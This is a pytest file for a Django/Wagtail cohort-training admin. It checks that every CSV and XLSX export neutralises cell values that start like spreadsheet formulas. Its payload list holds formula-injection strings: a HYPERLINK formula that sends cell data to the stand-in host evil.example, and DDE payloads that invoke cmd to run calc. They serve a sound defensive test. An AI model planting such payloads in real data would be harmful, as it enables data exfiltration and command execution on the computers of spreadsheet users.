"""Every spreadsheet the admin hands out is formula-safe: a name that starts like a formula
arrives in Excel or LibreOffice as the text that was typed, never as a live formula."""

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook
from wagtail.log_actions import log

from cohorts.models import (
    Certificate,
    Cohort,
    Delivery,
    Establishment,
    ShadowingLogEntry,
    ShadowingPlacement,
    StaffProfile,
    Trainee,
    TrainerStage,
)
from tests.factories import hold_sessions, make_cohort

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# XLSX keeps a carriage return as a line feed.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
GUARDED = {f"'{text}" for text in HOSTILE} | {f"'{text}".replace("\r", "\n") for text in HOSTILE}
EXPORTS = [
    "cohorts",
    "trainees",
    "members",
    "deliveries",
    "attendance",
    "shadowing",
    "shadowing-log",
    "staff-trainers",
    "trainer-stages",
    "certificates",
    "establishments",
]


@pytest.fixture
def hostile_records(users, staff_at_home):
    """Every text a facilitator or trainer types into a cohort record starts like a formula."""
    Establishment.objects.filter(pk=staff_at_home.pk).update(name=HOSTILE[0])
    cohort = make_cohort(establishment=staff_at_home, sessions=1, trainees=len(HOSTILE))
    Cohort.objects.filter(pk=cohort.pk).update(name=HOSTILE[1])
    trainees = list(Trainee.objects.filter(establishment=staff_at_home).order_by("pk"))
    for trainee, name in zip(trainees, HOSTILE, strict=True):
        trainee.display_name = name
        trainee.save()
    marks = {t.display_name: ["absent"] for t in trainees}
    delivery = hold_sessions(cohort, marks, location=HOSTILE[2], notes=HOSTILE[3])[0]
    Delivery.objects.filter(pk=delivery.pk).update(lead_trainer=users["trainer"])
    for username, name in (("trainer", HOSTILE[2]), ("facilitator", HOSTILE[0])):
        users[username].first_name = name
        users[username].save()
    TrainerStage.objects.create(
        trainer=users["trainer"], session=delivery.session, stage=1, evidence=delivery
    )
    placement = ShadowingPlacement.objects.create(
        new_worker=trainees[0],
        experienced_worker=trainees[1],
        starts_on=date(2026, 2, 2),
        ends_on=date(2026, 2, 20),
    )
    ShadowingLogEntry.objects.create(placement=placement, day=date(2026, 2, 3), note=HOSTILE[5])
    Certificate.objects.create(
        trainee=trainees[2],
        cohort=cohort,
        reference="PST-TEST-0001",
        completed_on=date(2026, 2, 1),
        signatory=HOSTILE[3],
        issued_on=date(2026, 2, 2),
    )
    for trainee in trainees:
        log(trainee, "wagtail.edit", user=users["facilitator"])
    return StaffProfile.objects.get(user=users["facilitator"])


def cells(response, spreadsheet_format: str) -> list[str]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if spreadsheet_format == "csv":
        rows = list(csv.reader(io.StringIO(content.decode())))
    else:
        rows = list(load_workbook(io.BytesIO(content)).active.values)
    return [value for row in rows[1:] for value in row if isinstance(value, str)]


@pytest.mark.parametrize("spreadsheet_format", ["csv", "xlsx"])
@pytest.mark.parametrize("listing", EXPORTS)
def test_no_cell_of_a_cohort_record_download_is_a_formula(
    client_for, hostile_records, listing, spreadsheet_format
):
    response = client_for("facilitator").get(
        f"/admin/cohorts/{listing}/?export={spreadsheet_format}"
    )
    texts = cells(response, spreadsheet_format)

    assert response.status_code == 200
    assert [text for text in texts if text.startswith(FORMULA_STARTS)] == []
    assert GUARDED & set(texts)


@pytest.mark.parametrize("spreadsheet_format", ["csv", "xlsx"])
def test_the_site_history_download_is_formula_safe(client_for, hostile_records, spreadsheet_format):
    response = client_for("facilitator").get(
        f"/admin/reports/site-history/?export={spreadsheet_format}"
    )
    texts = cells(response, spreadsheet_format)

    assert [text for text in texts if text.startswith(FORMULA_STARTS)] == []
    assert len(GUARDED & set(texts)) == len(HOSTILE)


def test_a_download_keeps_dates_as_dates(client_for, hostile_records):
    response = client_for("facilitator").get("/admin/cohorts/certificates/?export=xlsx")
    content = b"".join(response.streaming_content)
    rows = list(load_workbook(io.BytesIO(content)).active.values)

    assert rows[1][0] == "PST-TEST-0001"
    assert rows[1][3] == date(2026, 2, 1)
